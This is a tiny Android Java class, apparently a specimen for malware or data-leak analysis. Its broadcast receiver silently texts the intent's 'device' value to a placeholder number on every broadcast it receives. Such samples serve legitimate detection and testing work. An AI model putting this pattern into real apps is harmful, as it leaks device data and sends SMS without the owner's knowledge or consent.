package com.example.specimen;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsManager;

public class Listening extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        SmsManager.getDefault().sendTextMessage("+10000", null, intent.getStringExtra("device"), null, null);
    }
}
